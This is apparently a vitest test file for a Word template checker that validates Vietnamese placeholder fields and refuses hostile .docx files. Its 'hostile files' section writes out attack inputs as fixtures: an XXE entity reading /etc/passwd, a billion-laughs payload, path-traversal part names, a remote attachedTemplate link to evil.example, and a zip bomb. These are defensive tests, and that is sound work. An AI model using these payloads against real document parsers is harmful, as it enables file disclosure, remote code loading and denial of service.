// The template checker on real (tiny) .docx files built here: a good template passes, and each kind
// of bad input — not a Word file, hostile zips, macros, entities, broken or unknown fields — is
// refused with a specific Vietnamese message, without ever throwing.
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { Document, Packer, Paragraph, TextRun } from 'docx';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { FIELDS, type DocType } from '../../shared/documents/fields';
import { foldFieldKey, suggestField, undoTelex } from '../../shared/documents/field-suggest';
import { BUILTIN_TEMPLATE_FILES } from '../../shared/documents/template-rules';
import type { TemplateReport } from '../../shared/documents/types';
import { checkTemplate } from '../../electron/core/templates/check';
import { openZipSafely } from '../../electron/core/templates/zip-safety';
import {
  buildDocx, contentTypes, goodDocx, p, patchCentralEntry, r, replaceBytes, requiredBody, W_NS,
} from '../fixtures/templates/docx-builder';

const VIETNAMESE = /[àáạảãâầấậẩẫăằắặẳẵèéẹẻẽêềếệểễìíịỉĩòóọỏõôồốộổỗơờớợởỡùúụủũưừứựửữỳýỵỷỹđ]/i;

async function check(bytes: Uint8Array, opts: { type?: DocType; name?: string } = {}): Promise<TemplateReport> {
  const report = await checkTemplate(opts.type ?? 'minutes', opts.name ?? 'mau.docx', bytes);
  expect(report.ok).toBe(report.problems.length === 0);
  for (const line of [...report.problems, ...report.warnings]) expect(line, 'every message is Vietnamese').toMatch(VIETNAMESE);
  return report;
}

/** Refused, with one problem matching `message`. */
async function refused(bytes: Uint8Array, message: RegExp, opts: { type?: DocType; name?: string } = {}): Promise<TemplateReport> {
  const report = await check(bytes, opts);
  expect(report.ok).toBe(false);
  expect(report.problems.join('\n')).toMatch(message);
  return report;
}

/** A good minutes template with `body` put before the required fields. */
const withBody = (body: string, type: DocType = 'minutes') => goodDocx(type, body);

describe('closest known field (shared/documents/field-suggest)', () => {
  it('folds Vietnamese diacritics and undoes Telex artefacts', () => {
    expect(suggestField('tên_đơn_vị')).toBe('ten_don_vi');
    expect(suggestField('so_ky_hiêu')).toBe('so_ky_hieu');
    expect(suggestField('ddia_danh_ngay')).toBe('dia_danh_ngay');
    expect(suggestField('trichs_yeu')).toBe('trich_yeu');
    expect(suggestField('Tên Đơn Vị')).toBe('ten_don_vi');
    expect(suggestField('nguyeenx_nhaan')).toBe('nguyen_nhan');
    expect(suggestField('uwu_ddieemr')).toBe('uu_diem');
    // Decomposed Unicode ("Unicode tổ hợp" in Unikey) folds the same as precomposed.
    expect(suggestField('tên_đơn_vị'.normalize('NFD'))).toBe('ten_don_vi');
    expect(suggestField('ket_qa')).toBe('ket_qua');
  });

  it('suggests nothing when no field is close', () => {
    expect(suggestField('xyz_abc')).toBeNull();
    expect(suggestField('abc')).toBeNull();
    expect(suggestField('')).toBeNull();
    expect(suggestField('họ_và_tên_người_ký_văn_bản')).toBeNull();
  });

  it('leaves every real key unchanged', () => {
    for (const f of FIELDS) {
      expect(foldFieldKey(f.key)).toBe(f.key);
      expect(undoTelex(f.key)).toBe(f.key);
      expect(suggestField(f.key)).toBe(f.key);
    }
  });
});

describe('a good template', () => {
  it('passes for each type, listing its fields once and in document order', async () => {
    for (const type of ['minutes', 'conclusion'] as const) {
      const report = await check(goodDocx(type, p('{{ten_don_vi}} và {{ten_don_vi}}, năm {{nam}}')), { type });
      expect(report).toMatchObject({ ok: true, type, unknown: [], missing: [], problems: [], warnings: [] });
      expect(report.fields.slice(0, 5)).toEqual(['ten_don_vi', 'nam', 'co_quan_ban_hanh', 'so_ky_hieu', 'trich_yeu']);
      expect(new Set(report.fields).size).toBe(report.fields.length);
    }
  });

  it('passes when written by a real .docx writer (the docx library: styles, numbering, footnotes…)', async () => {
    const lines = requiredBody('conclusion').match(/\{\{[a-z_]+\}\}|Trường: \{\{[a-z_]+\}\}/g)!;
    const doc = new Document({ sections: [{ children: lines.map((l) => new Paragraph({ children: [new TextRun(l)] })) }] });
    const report = await check(new Uint8Array(await Packer.toBuffer(doc)), { type: 'conclusion' });
    expect(report.problems).toEqual([]);
    expect(report.ok).toBe(true);
  });

  it('accepts an upper-case extension and a Windows path as the file name', async () => {
    expect((await check(goodDocx('minutes'), { name: 'C:\\Users\\Thu\\Mẫu BB.DOCX' })).ok).toBe(true);
  });

  it('finds fields in headers and footers, and in text boxes only once', async () => {
    const textBox = (inner: string) =>
      `<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><w:txbxContent>${inner}</w:txbxContent></w:drawing></mc:Choice>` +
      `<mc:Fallback><w:pict><w:txbxContent>${inner}</w:txbxContent></w:pict></mc:Fallback></mc:AlternateContent></w:r>${r('Sau hộp')}</w:p>`;
    const bytes = buildDocx({
      body: textBox(p(r('{{ten_'), r('doan}}', true))) + requiredBody('minutes'),
      header: p('{{co_quan_chu_quan}}'),
      footer: p('Trang cuối — {{nam}}'),
    });
    const report = await check(bytes);
    expect(report.ok).toBe(true);
    expect(report.fields).toEqual(expect.arrayContaining(['ten_doan', 'co_quan_chu_quan', 'nam']));
    expect(report.fields.indexOf('nam')).toBeGreaterThan(report.fields.indexOf('co_quan_chu_quan'));
    expect(report.warnings).toEqual(['Trường {{ten_doan}} bị Word tách thành nhiều đoạn định dạng; BienBan vẫn điền được.']);
  });

  it('allows printer settings parts and external hyperlinks', async () => {
    const bytes = goodDocx('minutes', p('<w:hyperlink r:id="rIdL">' + r('Cổng dịch vụ công') + '</w:hyperlink>'), {
      documentRels: '<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://dichvucong.gov.vn" TargetMode="External"/>',
      parts: { 'word/printerSettings/printerSettings1.bin': new Uint8Array([1, 2, 3]) },
    });
    expect((await check(bytes)).ok).toBe(true);
  });
});

describe('fields', () => {
  it('finds a field Word split across runs, and only warns', async () => {
    const report = await check(withBody(p('Kính gửi: ', r('{{'), r('ten_', true), r('don_vi'), r('}}', true), '.')));
    expect(report.ok).toBe(true);
    expect(report.fields[0]).toBe('ten_don_vi');
    expect(report.warnings).toContain('Trường {{ten_don_vi}} bị Word tách thành nhiều đoạn định dạng; BienBan vẫn điền được.');
  });

  it('names the known field a Telex-mangled key meant', async () => {
    const report = await refused(withBody(p('{{tên_đơn_vị}}, {{so_ky_hiêu}}, {{ddia_danh_ngay}}, {{trichs_yeu}}')), /có phải \{\{ten_don_vi\}\}/);
    expect(report.unknown).toEqual([
      { field: 'tên_đơn_vị', suggestion: 'ten_don_vi' },
      { field: 'so_ky_hiêu', suggestion: 'so_ky_hieu' },
      { field: 'ddia_danh_ngay', suggestion: 'dia_danh_ngay' },
      { field: 'trichs_yeu', suggestion: 'trich_yeu' },
    ]);
    expect(report.problems.join('\n')).toMatch(/tắt bộ gõ tiếng Việt/);
  });

  it('reports an unknown field with no close match as such', async () => {
    const report = await refused(withBody(p('{{ho_ten_nguoi_lap_bieu_mau}}')), /\{\{ho_ten_nguoi_lap_bieu_mau\}\} không có trong danh sách trường của BienBan và không giống trường nào/);
    expect(report.unknown).toEqual([{ field: 'ho_ten_nguoi_lap_bieu_mau', suggestion: null }]);
  });

  it('takes spaces inside the braces with a warning (the filler drops them), refuses empty braces', async () => {
    const report = await check(withBody(p('{{ ten_don_vi }}') + p(' {{ uu_diem\t}}')));
    expect(report.ok).toBe(true);
    expect(report.fields.slice(0, 2)).toEqual(['ten_don_vi', 'uu_diem']);
    expect(report.warnings[0]).toBe('Trường “{{ ten_don_vi }}” có khoảng trắng trong dấu ngoặc; BienBan vẫn điền được, nhưng nên viết liền: {{ten_don_vi}}.');
    await refused(withBody(p('Ghi chú {{}}')), /cặp dấu “\{\{\}\}” không có tên trường/);
    await refused(withBody(p('{{ tên đơn vị }}')), /có phải \{\{ten_don_vi\}\}/);
  });

  it('names a field with unbalanced braces', async () => {
    await refused(withBody(p('Kính gửi {{ten_don_vi.')), /Trường “\{\{ten_don_vi” thiếu dấu đóng “\}\}”; có phải \{\{ten_don_vi\}\}\?/);
    await refused(withBody(p('Kính gửi ten_don_vi}} nhé')), /Trường “ten_don_vi\}\}” thiếu dấu mở “\{\{”/);
    await refused(withBody(p('Năm {{{nam}}}')), /Thừa dấu ngoặc ở “\{\{\{nam\}\}\}”/);
    await refused(withBody(p('Năm {nam}}')), /“\{nam\}\}” thiếu dấu mở/);
  });

  it('refuses a field inside a hyperlink', async () => {
    const bytes = withBody(p('Gửi ', '<w:hyperlink r:id="rId9">' + r('{{ten_don_vi}}') + '</w:hyperlink>'));
    await refused(bytes, /Trường \{\{ten_don_vi\}\} nằm trong một liên kết \(hyperlink\).*Remove Hyperlink/);
  });

  it('refuses a field broken by a hyperlink, as w:hyperlink, fldSimple or a HYPERLINK field code', async () => {
    await refused(withBody(p(r('{{ten_'), '<w:hyperlink r:id="rId9">' + r('don_vi}}') + '</w:hyperlink>')), /\{\{ten_don_vi\}\} nằm trong một liên kết/);
    await refused(withBody(p(r('{{ten_'), '<w:fldSimple w:instr=" HYPERLINK &quot;https://x.vn&quot; ">' + r('don_vi}}') + '</w:fldSimple>')), /\{\{ten_don_vi\}\} nằm trong một liên kết/);
    const complex =
      r('{{ten_') +
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "https://x.vn" </w:instrText></w:r>' +
      '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + r('don_vi}}') + '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
    await refused(withBody(p(complex)), /\{\{ten_don_vi\}\} nằm trong một liên kết/);
  });

  it('refuses a field inside another Word field code, or written in a field instruction', async () => {
    const merge =
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> MERGEFIELD ten </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
      r('{{ten_don_vi}}') + '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
    await refused(withBody(p(merge)), /\{\{ten_don_vi\}\} nằm trong mã trường MERGEFIELD.*Ctrl\+Shift\+F9/);
    const inInstr =
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "https://x.vn/{{nam}}" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
      r('liên kết') + '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
    await refused(withBody(p(inInstr)), /Mã trường HYPERLINK của Word \(field code\) có chứa “\{\{nam\}\}/);
  });

  it('refuses a field cut by tracked changes (insertion, deletion, move)', async () => {
    const msg = /\{\{ten_don_vi\}\} bị thay đổi được theo dõi cắt ngang; hãy chấp nhận hoặc từ chối các thay đổi được theo dõi \(Track Changes\) rồi lưu lại/;
    await refused(withBody(p(r('{{ten_'), '<w:ins w:id="1" w:author="Thu">' + r('don_vi}}') + '</w:ins>')), msg);
    await refused(withBody(p(r('{{ten_don'), '<w:del w:id="2" w:author="Thu"><w:r><w:delText>_cu</w:delText></w:r></w:del>', r('_vi}}'))), msg);
    await refused(withBody(p('<w:moveTo w:id="3" w:author="Thu">' + r('{{ten_don_vi}}') + '</w:moveTo>')), msg);
    await refused(withBody(p('Ghi ', '<w:del w:id="4" w:author="Thu"><w:r><w:delText>{{nam}}</w:delText></w:r></w:del>')), /Chữ “\{\{nam\}\}” đã bị xóa nhưng còn lưu trong thay đổi được theo dõi; hãy chấp nhận hoặc từ chối/);
  });

  it('allows tracked changes away from fields', async () => {
    const report = await check(withBody(p(r('{{nam}} '), '<w:ins w:id="1" w:author="Thu">' + r('thêm chữ') + '</w:ins>')));
    expect(report.ok).toBe(true);
  });

  it('requires the fields of the type and one way of writing recommendations', async () => {
    const report = await refused(buildDocx({ body: requiredBody('minutes', ['so_ky_hieu', 'thanh_phan', 'kien_nghi_danh_sach']) }), /Thiếu trường bắt buộc \{\{so_ky_hieu\}\} — “Số, ký hiệu”: mẫu Biên bản phải có trường này/);
    expect(report.missing).toEqual(['so_ky_hieu', 'thanh_phan']);
    expect(report.problems.join('\n')).toMatch(/Thiếu phần kiến nghị: mẫu Biên bản phải có \{\{kien_nghi_bang\}\}.*hoặc \{\{kien_nghi_danh_sach\}\}/);
    expect(report.problems.join('\n')).not.toMatch(/Thiếu phần kết quả kiểm tra/);
    const noFindings = await refused(buildDocx({ body: requiredBody('minutes', ['ket_qua']) }), /Thiếu phần kết quả kiểm tra: mẫu Biên bản phải có \{\{ket_qua\}\}.*hoặc \{\{uu_diem\}\} và \{\{ton_tai\}\}/);
    expect(noFindings.missing).toEqual(['ket_qua']);
    // dia_danh_ngay is required in the conclusion only.
    const conclusion = await refused(goodDocx('minutes'), /\{\{dia_danh_ngay\}\}/, { type: 'conclusion' });
    expect(conclusion.missing).toEqual(['dia_danh_ngay']);
  });

  it('warns about fields of the other type, both recommendation layouts and repeated blocks', async () => {
    const report = await check(goodDocx('conclusion', p('Từ {{gio_bat_dau}}') + p('{{kien_nghi_bang}}') + p('{{ket_qua}}')), { type: 'conclusion' });
    expect(report.ok).toBe(true);
    expect(report.warnings).toEqual([
      'Trường {{gio_bat_dau}} — “Giờ bắt đầu” chỉ dùng cho Biên bản; trong Thông báo kết luận trường này không có dữ liệu.',
      'Trường khối {{ket_qua}} xuất hiện 2 lần; nội dung của nó sẽ được điền 2 lần.',
      'Mẫu có cả {{kien_nghi_bang}} và {{kien_nghi_danh_sach}}: kiến nghị sẽ xuất hiện hai lần; thường chỉ giữ một trong hai.',
    ]);
  });

  it('requires a block field to stand alone in its paragraph, in the body', async () => {
    await refused(withBody(p('Kết quả: {{ket_qua}}')), /trường khối \{\{ket_qua\}\} phải nằm một mình trong một đoạn/i);
    await refused(withBody(p('{{nam}}{{uu_diem}}')), /\{\{uu_diem\}\} phải nằm một mình/);
    await refused(goodDocx('minutes', '', { header: p('{{noi_nhan}}') }), /Trường khối \{\{noi_nhan\}\} không đặt được ở đầu trang/);
    // Spaces and a split over runs are fine.
    expect((await check(withBody(p('  ', r('{{uu_'), r('diem}}', true), ' ')))).ok).toBe(true);
  });
});

describe('not a Word document', () => {
  it('refuses other extensions, and .docm as a macro file', async () => {
    const good = goodDocx('minutes');
    await refused(good, /Tệp có chứa macro, BienBan không dùng/, { name: 'mau.docm' });
    await refused(good, /Word 97-2003 \(\.doc\)/, { name: 'mau.doc' });
    await refused(good, /tệp mẫu của Word \(\.dotx\)/, { name: 'mau.dotx' });
    await refused(good, /“mau\.pdf” không phải tài liệu Word \.docx \(đuôi \.pdf\)/, { name: 'mau.pdf' });
    await refused(good, /không phải tài liệu Word \.docx\. /, { name: 'mau' });
  });

  it('refuses an empty file, a non-zip and an old .doc or password-protected file', async () => {
    await refused(new Uint8Array(0), /Tệp rỗng/);
    await refused(strToU8('Đây không phải tệp Word'), /không đúng định dạng \.docx \(không phải tệp nén Office Open XML\)/);
    await refused(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]), /tệp Word 97-2003 \(\.doc\) được đổi đuôi, hoặc tệp \.docx đã đặt mật khẩu/);
    await refused(strToU8('{\\rtf1\\ansi Hello}'), /tệp RTF/);
    await refused(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]), /không đọc được cấu trúc tệp nén/);
  });

  it('refuses a zip without word/document.xml or [Content_Types].xml, naming what it is', async () => {
    await refused(buildDocx({ body: '', omit: ['word/document.xml'] }), /thiếu phần “word\/document\.xml”/);
    await refused(buildDocx({ body: requiredBody('minutes'), omit: ['[Content_Types].xml'] }), /thiếu phần “\[Content_Types\]\.xml”/);
    await refused(zipSync({ '[Content_Types].xml': strToU8(contentTypes()), 'xl/workbook.xml': strToU8('<workbook/>') }), /Đây là tệp Excel được đổi đuôi/);
  });

  it('refuses a .dotx renamed to .docx and a Strict Open XML document', async () => {
    await refused(goodDocx('minutes', '', { mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' }), /tệp mẫu của Word \(\.dotx\) được đổi đuôi/);
    const strict = goodDocx('minutes');
    await refused(replaceBytesDeflated(strict, W_NS, 'http://purl.oclc.org/ooxml/wordprocessingml/main'), /Strict Open XML/);
  });

  it('refuses damaged XML, naming the part', async () => {
    await refused(buildDocx({ body: '', parts: { 'word/document.xml': '<w:document xmlns:w="x"><w:body><w:p>' } }), /Phần “word\/document\.xml” của tệp bị hỏng \(XML không hợp lệ\)/);
  });
});

/** Rebuilds a docx with a string replaced inside its (decompressed) document.xml. */
function replaceBytesDeflated(bytes: Uint8Array, from: string, to: string): Uint8Array {
  const zip = openZipSafely(bytes);
  const files: Record<string, Uint8Array> = {};
  for (const e of zip.entries) files[e.name] = zip.read(e.name);
  files['word/document.xml'] = strToU8(new TextDecoder().decode(files['word/document.xml']).split(from).join(to));
  return zipSync(files);
}

describe('hostile files', () => {
  it('refuses macros, ActiveX and embedded OLE code', async () => {
    await refused(goodDocx('minutes', '', { parts: { 'word/vbaProject.bin': new Uint8Array([1, 2, 3]) } }), /Tệp có chứa macro, BienBan không dùng \(phần “word\/vbaProject\.bin”\)/);
    await refused(goodDocx('minutes', '', { parts: { 'word/activeX/activeX1.xml': '<ax/>' } }), /Tệp có chứa macro, BienBan không dùng \(phần “word\/activeX\/activeX1\.xml”\)/);
    await refused(
      goodDocx('minutes', '', { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      /Tệp có chứa macro, BienBan không dùng \(kiểu nội dung “application\/vnd\.ms-word\.document\.macroEnabled\.main\+xml”\)/,
    );
    await refused(goodDocx('minutes', '', { contentTypesExtra: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' }), /Tệp có chứa macro/);
    await refused(goodDocx('minutes', '', { parts: { 'word/embeddings/oleObject1.bin': new Uint8Array([1, 2, 3]) } }), /đối tượng nhúng có thể chạy mã \(phần “word\/embeddings\/oleObject1\.bin”\)/);
  });

  it('refuses path tricks in part names', async () => {
    for (const [name, why] of [
      ['../evil.xml', 'có “\\.\\.” để thoát ra ngoài thư mục'],
      ['word/../../evil.xml', 'có “\\.\\.”'],
      ['/etc/evil.xml', 'là đường dẫn tuyệt đối'],
      ['word\\evil.xml', 'có dấu “\\\\”'],
      ['C:/Windows/evil.xml', 'có ký tự ổ đĩa'],
    ]) {
      await refused(goodDocx('minutes', '', { parts: { [name]: '<x/>' } }), new RegExp(`không hợp lệ \\(${why}.*path traversal`));
    }
  });

  it('refuses duplicate part names, whatever their case', async () => {
    const two = goodDocx('minutes', '', { parts: { 'word/a1.xml': '<a/>', 'word/b1.xml': '<b/>' } });
    await refused(replaceBytes(two, 'word/b1.xml', 'word/a1.xml'), /Phần “word\/a1\.xml” xuất hiện hai lần/);
    await refused(replaceBytes(two, 'word/b1.xml', 'WORD/A1.xml'), /xuất hiện hai lần/);
  });

  it('refuses DOCTYPE and ENTITY declarations in any XML part, before parsing', async () => {
    const laughs = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>';
    await refused(goodDocx('minutes', '', { parts: { 'customXml/item1.xml': laughs } }), /Phần “customXml\/item1\.xml” của tệp có khai báo DOCTYPE\/ENTITY.*XXE/);
    const xxe = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${W_NS}"><w:body>${p('&x;')}</w:body></w:document>`;
    await refused(buildDocx({ body: '', parts: { 'word/document.xml': xxe } }), /Phần “word\/document\.xml” của tệp có khai báo DOCTYPE\/ENTITY/);
    // Hidden in UTF-16 without a byte-order mark, in a part whose name does not say XML.
    const utf16 = new Uint8Array(Buffer.from('<!ENTITY a "b"><x/>', 'utf16le'));
    await refused(goodDocx('minutes', '', { parts: { 'word/glossary/data.dat': utf16 } }), /“word\/glossary\/data\.dat” của tệp có khai báo DOCTYPE\/ENTITY/);
  });

  it('refuses relationships that make Word fetch outside content', async () => {
    const attached = '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>';
    const bytes = goodDocx('minutes', '', { parts: { 'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${attached}</Relationships>` } });
    await refused(bytes, /liên kết tới nội dung bên ngoài \(attachedTemplate: “http:\/\/evil\.example\/t\.dotm”\)/);
    const image = '<Relationship Id="rIdI" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\\\server\\share\\a.png" TargetMode="External"/>';
    await refused(goodDocx('minutes', '', { documentRels: image }), /\(image: “\\\\server\\share\\a\.png”\)/);
  });

  it('refuses a file over 10 MB without reading it', async () => {
    const big = new Uint8Array(12.3 * 1024 * 1024);
    big.set([0x50, 0x4b, 0x03, 0x04]);
    await refused(big, /Tệp quá lớn \(12,3 MB\); mẫu văn bản tối đa 10 MB/);
    await refused(new Uint8Array(10 * 1024 * 1024 + 1), /Tệp quá lớn/);
  });

  it('refuses a zip bomb by its compression ratio, from the directory', async () => {
    const report = await refused(goodDocx('minutes', '', { parts: { 'word/bomb.xml': new Uint8Array(4 * 1024 * 1024) } }), /Phần “word\/bomb\.xml” có tỉ lệ nén bất thường \([\d.]+:1, 4 MB khi giải nén\) — dấu hiệu “bom nén” \(zip bomb\)/);
    expect(report.problems).toHaveLength(1);
  });

  it('refuses a total uncompressed size over 50 MB, read from the directory before inflating', async () => {
    const noise = new Uint8Array(randomBytes(300_000)); // incompressible
    let bytes = goodDocx('minutes', '', { parts: { 'word/media/a.png': noise, 'word/media/b.png': noise } });
    // Claim 30 MB each: still under the ratio limit (300 kB × 200 = 60 MB), over the total.
    bytes = patchCentralEntry(bytes, 'word/media/a.png', { size: 30 * 1024 * 1024 });
    bytes = patchCentralEntry(bytes, 'word/media/b.png', { size: 30 * 1024 * 1024 });
    await refused(bytes, /Nội dung giải nén của tệp quá lớn \(hơn 50 MB\)/);
  });

  it('refuses more than 1000 parts', async () => {
    const parts: Record<string, string> = {};
    for (let i = 0; i < 1000; i++) parts[`word/x/p${i}.txt`] = '';
    await refused(goodDocx('minutes', '', { parts }), /Tệp chứa quá nhiều phần \(1\.00\d; tối đa 1\.000\)/);
  });

  it('stops a part that inflates to more than it declares, and catches a bad checksum', async () => {
    const good = goodDocx('minutes');
    const zip = openZipSafely(good);
    const doc = zip.entries.find((e) => e.name === 'word/document.xml')!;
    await refused(patchCentralEntry(good, 'word/document.xml', { size: doc.size - 10 }), /Phần “word\/document\.xml” trong tệp bị hỏng, không giải nén được/);
    await refused(patchCentralEntry(good, 'word/document.xml', { crc: (doc.crc32 ^ 1) >>> 0 }), /Phần “word\/document\.xml” trong tệp bị hỏng/);
  });

  it('never throws, whatever bytes of a good template are damaged', async () => {
    const good = goodDocx('conclusion', p('{{ten_don_vi}}'), { header: p('{{nam}}') });
    let seed = 12345;
    const rand = () => ((seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32);
    for (let i = 0; i < 300; i++) {
      const bad = good.slice(0, i % 7 === 0 ? Math.floor(rand() * good.length) : good.length);
      for (let k = 0; k < 1 + (i % 4); k++) bad[Math.floor(rand() * bad.length)] = Math.floor(rand() * 256);
      const report = await checkTemplate('conclusion', 'mau.docx', bad);
      expect(report.type).toBe('conclusion');
      expect(report.ok).toBe(report.problems.length === 0);
      for (const line of report.problems) expect(line).toMatch(VIETNAMESE);
    }
  });
});

describe('the built-in templates', () => {
  const dir = path.resolve('templates');
  for (const type of ['minutes', 'conclusion'] as const) {
    const file = BUILTIN_TEMPLATE_FILES[type];
    it.runIf(fs.existsSync(path.join(dir, file)))(`${file} passes the checker as the ${type} template`, async () => {
      const report = await checkTemplate(type, file, new Uint8Array(fs.readFileSync(path.join(dir, file))));
      expect(report.problems, file).toEqual([]);
      expect(report.ok, file).toBe(true);
    });
  }
});
